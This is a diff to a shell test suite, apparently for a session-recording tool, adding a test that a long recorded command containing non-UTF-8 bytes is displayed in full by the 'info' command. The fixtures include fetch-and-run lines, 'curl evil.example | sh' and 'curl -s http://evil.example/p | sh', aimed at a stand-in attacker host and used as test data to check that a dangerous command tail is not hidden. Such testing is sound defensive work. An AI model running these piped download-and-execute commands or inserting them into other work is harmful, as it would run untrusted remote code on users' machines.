@@ -405,6 +405,15 @@ expect 0 "$R" -c conf info longcmd.tgr
 grep -q "^command: *echo a*; curl evil.example | sh\$" out.txt ||
 	tg_fail "info: a long command not shown whole: $(grep -a '^command' out.txt | cut -c1-40)...$(grep -a '^command' out.txt | tail -c 60)"
 grep -q "^command shown: *5029 of 5029 bytes\$" out.txt || tg_fail "info: $(grep -a '^command shown' out.txt)"
+# ... also when its first 4 KiB hold bytes that are not UTF-8 (each U+FFFD in the header's
+# text is 3 bytes: that text is longer than the command's 4132 bytes)
+bad=$(printf '\377%.0s' $(seq 40))
+"$G" script k/signing.key longbad.tgr session=$SID mode=command term= cols=0 rows=0 \
+	"command=echo '$bad' # $(head -c 4046 /dev/zero | tr '\0' x); curl -s http://evil.example/p | sh" \
+	<"$DATA/replay-session.txt" || tg_fail "make longbad.tgr"
+expect 0 "$R" -c conf info longbad.tgr
+grep -q "^command shown: *4132 of 4132 bytes\$" out.txt && grep -q "^command: .*x; curl -s http://evil.example/p | sh\$" out.txt ||
+	tg_fail "info: a long command with bad bytes not shown whole: $(grep -a '^command' out.txt | tail -c 80)"
 # ... from a note past the verified part, it is a claim, said apart
 printf 'out 1000 x\nflush\ncrash\n' |
 	"$G" script k/signing.key longcut.tgr session=$SID mode=command term= cols=0 rows=0 \
